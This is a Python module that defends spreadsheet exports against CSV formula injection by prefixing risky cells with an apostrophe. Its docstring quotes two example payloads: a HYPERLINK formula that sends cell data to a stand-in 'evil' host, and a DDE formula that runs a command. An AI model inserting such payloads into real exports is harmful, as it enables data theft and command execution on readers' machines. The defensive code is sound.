"""What every CSV and Excel file Eslabón writes does to a cell first: formulas made inert.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and some
run one that starts with a tab or a carriage return too (OWASP, "CSV injection"): a
customer name or a comment such as `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0`
in an export would execute on the reader's machine. One function, shared by the ETL
(rejects CSV) and the dashboard (targets, notices, weekly workbook), so every export
neutralises the same cells the same way. It lives in `etl` because the dashboard may
import the ETL, never the other way round.
"""

from __future__ import annotations

# Cells starting with one of these are run as formulas by spreadsheet programs.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """The value, with text that a spreadsheet would run as a formula made inert.

    A leading apostrophe is the convention spreadsheet programs honour: the cell shows the
    text as typed and never evaluates it. Numbers and other non-text values pass
    unchanged, so a negative target stays a number.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
